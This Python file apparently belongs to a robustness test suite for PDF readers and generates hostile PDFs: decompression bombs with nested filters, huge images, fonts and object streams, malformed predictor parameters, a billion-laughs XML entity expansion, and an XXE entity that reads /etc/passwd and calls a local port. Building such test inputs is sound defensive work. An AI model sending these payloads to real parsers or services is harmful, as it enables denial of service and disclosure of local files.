"""Small files that unfold to much."""

from __future__ import annotations

import zlib
from functools import partial

from tools.hostile_pdfs.recipe import Kitchen, Menu
from tools.hostile_pdfs.writing import WORDS, document, file, flate, flate_stream, stream, zeros

MENU = Menu("bomb")
GIGABYTE = 1_000_000_000
FLATE = b"/Filter /FlateDecode"


def _content(unfolded: int, kitchen: Kitchen) -> bytes:
    return document(more={4: stream(zeros(unfolded), FLATE)})


for megabytes in (100, 1_000, 4_000, 10_000):
    MENU.add(f"content-{megabytes}-mb", partial(_content, megabytes * 1_000_000), quick=megabytes == 10_000)


def _nested(times: int, unfolded: int, kitchen: Kitchen) -> bytes:
    data = zeros(unfolded)
    for _ in range(times - 1):
        data = flate(data)
    names = b" ".join([b"/FlateDecode"] * times)
    return document(more={4: stream(data, b"/Filter [" + names + b"]")})


for times, gigabytes in ((2, 2), (3, 10), (5, 1)):
    MENU.add(
        f"nested-{times}-filters-{gigabytes}-gb",
        partial(_nested, times, gigabytes * GIGABYTE),
        quick=times == 3,
    )


def _many_filters(name: bytes, times: int, kitchen: Kitchen) -> bytes:
    names = b" ".join([name] * times)
    return document(more={4: stream(WORDS, b"/Filter [" + names + b"]")})


for name in ("FlateDecode", "ASCIIHexDecode", "ASCII85Decode", "RunLengthDecode", "LZWDecode"):
    MENU.add(f"200-times-{name.lower()}", partial(_many_filters, b"/" + name.encode(), 200))
MENU.add("100000-filters", partial(_many_filters, b"/ASCIIHexDecode", 100_000))


@MENU.recipe()
def run_length(kitchen: Kitchen) -> bytes:
    """Each two bytes become 128."""
    return document(more={4: stream(b"\x81 " * 4_500_000 + b"\x80", b"/Filter /RunLengthDecode")})


@MENU.recipe()
def run_length_in_flate(kitchen: Kitchen) -> bytes:
    """4 MB of run lengths become 256 MB, from a few kilobytes."""
    data = flate(b"\x81 " * 2_000_000 + b"\x80")
    return document(more={4: stream(data, b"/Filter [/FlateDecode /RunLengthDecode]")})


@MENU.recipe()
def many_streams_of_50_mb(kitchen: Kitchen) -> bytes:
    """None of them is large by itself."""
    data = zeros(50_000_000)
    streams = {10 + place: stream(data, FLATE) for place in range(100)}
    contents = b"[" + b" ".join(b"%d 0 R" % number for number in streams) + b"]"
    return document(page=b"/Contents " + contents, more=streams)


@MENU.recipe(quick=True)
def one_stream_a_thousand_times(kitchen: Kitchen) -> bytes:
    """The same 20 MB, as often as a page can name them."""
    contents = b"[" + b"10 0 R " * 1_000 + b"]"
    return document(page=b"/Contents " + contents, more={10: stream(zeros(20_000_000), FLATE)})


def _image(entries: bytes, data: bytes, kitchen: Kitchen) -> bytes:
    image = stream(data, b"/Type /XObject /Subtype /Image " + entries)
    return document(
        WORDS + b" q 500 0 0 500 0 0 cm /I1 Do Q", resources=b"/XObject << /I1 10 0 R >>", more={10: image}
    )


RGB = b"/ColorSpace /DeviceRGB /BitsPerComponent 8 "
MENU.add(
    "image-30000-x-30000",
    partial(_image, b"/Width 30000 /Height 30000 " + RGB + FLATE, zeros(2_700_000_000)),
)
MENU.add(
    "image-of-2-31", partial(_image, b"/Width 2147483647 /Height 2147483647 " + RGB + FLATE, zeros(1000))
)
MENU.add("image-of-no-width", partial(_image, b"/Width 0 /Height -1 " + RGB + FLATE, zeros(1000)))
MENU.add(
    "image-16-bits-32-colours",
    partial(
        _image,
        b"/Width 60000 /Height 60000 /BitsPerComponent 16 /ColorSpace [/DeviceN ["
        + b" ".join(b"/C%d" % place for place in range(32))
        + b"] /DeviceCMYK << /FunctionType 2 /Domain [0 1] /N 1 >>] "
        + FLATE,
        zeros(10_000_000),
    ),
)


def _predictor(parameters: bytes, kitchen: Kitchen) -> bytes:
    return document(more={4: stream(flate(WORDS * 10), FLATE + b" /DecodeParms << " + parameters + b" >>")})


for label, parameters in {
    "columns-2-31": b"/Predictor 12 /Columns 2147483647",
    "columns-negative": b"/Predictor 12 /Columns -5",
    "colours-2-31": b"/Predictor 12 /Colors 2147483647 /BitsPerComponent 16 /Columns 65536",
    "colours-zero": b"/Predictor 2 /Colors 0 /Columns 0",
    "bits-odd": b"/Predictor 15 /BitsPerComponent 7 /Columns 1000000000",
    "unknown": b"/Predictor 99 /Columns 10",
    "tiff-wide": b"/Predictor 2 /Colors 4 /BitsPerComponent 16 /Columns 536870911",
}.items():
    MENU.add(f"predictor-{label}", partial(_predictor, parameters), quick=label == "columns-2-31")


@MENU.recipe()
def lzw(kitchen: Kitchen) -> bytes:
    """Codes that all stand for themselves and one more."""
    bits = "".join(f"{code:09b}" for code in [256, 65, *range(258, 500)] * 20_000)
    packed = int(bits, 2).to_bytes((len(bits) + 7) // 8, "big")
    return document(more={4: stream(packed[: 9 << 20], b"/Filter /LZWDecode")})


@MENU.recipe()
def unended_deflate(kitchen: Kitchen) -> bytes:
    """A stream that goes on after what it said was all."""
    packer = zlib.compressobj(9)
    data = packer.compress(WORDS * 1000) + packer.flush(zlib.Z_SYNC_FLUSH)
    return document(more={4: stream(data * 500, FLATE)})


@MENU.recipe()
def metadata_of_2_gb(kitchen: Kitchen) -> bytes:
    """XMP that nobody should unfold."""
    metadata = stream(zeros(2 * GIGABYTE), b"/Type /Metadata /Subtype /XML " + FLATE)
    return document(catalog=b"/Metadata 10 0 R", more={10: metadata})


@MENU.recipe(quick=True)
def metadata_of_many_laughs(kitchen: Kitchen) -> bytes:
    """XMP whose entities double thirty times."""
    entities = b"".join(b'<!ENTITY l%d "&l%d;&l%d;">' % (n, n - 1, n - 1) for n in range(1, 31))
    xmp = (
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><!DOCTYPE x [<!ENTITY l0 "lol">'
        + entities
        + b"]>"
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<r:Description xmlns:pdf="http://ns.adobe.com/pdf/1.3/"><pdf:Producer>&l30;</pdf:Producer>'
        b"</r:Description></r:RDF></x:xmpmeta>"
    )
    metadata = flate_stream(xmp, b"/Type /Metadata /Subtype /XML")
    return document(catalog=b"/Metadata 10 0 R", more={10: metadata})


@MENU.recipe()
def metadata_that_reads_a_file(kitchen: Kitchen) -> bytes:
    """XMP with an entity of /etc/passwd and one of the network."""
    xmp = (
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://127.0.0.1:%d/">]>'
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<r:Description xmlns:pdf="http://ns.adobe.com/pdf/1.3/"><pdf:Producer>&a;&b;</pdf:Producer>'
        b"</r:Description></r:RDF></x:xmpmeta>" % kitchen.port
    )
    metadata = stream(xmp, b"/Type /Metadata /Subtype /XML")
    return document(catalog=b"/Metadata 10 0 R", more={10: metadata})


@MENU.recipe()
def font_of_1_gb(kitchen: Kitchen) -> bytes:
    """A font program that is mostly zeros."""
    font = (
        b"<< /Type /Font /Subtype /TrueType /BaseFont /AAAAAA+Arial /FirstChar 32 /LastChar 33 "
        b"/Widths [500 500] /FontDescriptor 11 0 R >>"
    )
    descriptor = b"<< /Type /FontDescriptor /FontName /AAAAAA+Arial /Flags 32 /FontFile2 12 0 R >>"
    program = stream(zeros(GIGABYTE), FLATE + b" /Length1 1000000000")
    return document(fonts=b"/F1 10 0 R", more={10: font, 11: descriptor, 12: program})


@MENU.recipe()
def to_unicode_of_1_gb(kitchen: Kitchen) -> bytes:
    """A map of characters that is mostly zeros."""
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 11 0 R >>"
    return document(fonts=b"/F1 10 0 R", more={10: font, 11: stream(zeros(GIGABYTE), FLATE)})


@MENU.recipe()
def to_unicode_of_all_ranges(kitchen: Kitchen) -> bytes:
    """A map that says everything about 4 billion characters, many times."""
    ranges = b"100 beginbfrange\n" + b"<00000000> <ffffffff> <0041>\n" * 100 + b"endbfrange\n"
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 11 0 R >>"
    return document(fonts=b"/F1 10 0 R", more={10: font, 11: flate_stream(ranges * 1000)})


@MENU.recipe(quick=True)
def object_stream_of_2_gb(kitchen: Kitchen) -> bytes:
    """The catalogue itself lies in a bomb."""
    return _in_object_stream(zeros(2 * GIGABYTE), count=1, first=8)


@MENU.recipe()
def object_stream_of_billions(kitchen: Kitchen) -> bytes:
    """It says that it holds 2^31 objects."""
    return _in_object_stream(flate(b"1 0 << /Type /Catalog >>"), count=2**31 - 1, first=4)


def _in_object_stream(packed: bytes, *, count: int, first: int) -> bytes:
    holder = stream(packed, b"/Type /ObjStm /N %d /First %d " % (count, first) + FLATE)
    body = b"%PDF-1.7\n10 0 obj\n" + holder + b"\nendobj\n"
    start = len(body)
    rows = bytes([0, 0, 0, 0, 0, 255, 2, 0, 0, 0, 10, 0]) + b"".join(
        bytes([1]) + place.to_bytes(4, "big") + b"\0" for place in (9, start)
    )
    index = stream(
        flate(rows),
        b"/Type /XRef /Size 12 /W [1 4 1] /Index [0 2 10 2] /Root 1 0 R /Filter /FlateDecode",
    )
    return body + b"11 0 obj\n" + index + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


@MENU.recipe()
def two_hundred_thousand_objects(kitchen: Kitchen) -> bytes:
    """Objects that nobody asks for."""
    return file(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [] /Count 0 >>",
            **dict.fromkeys(range(3, 210_000), b"[]"),
        }
    )
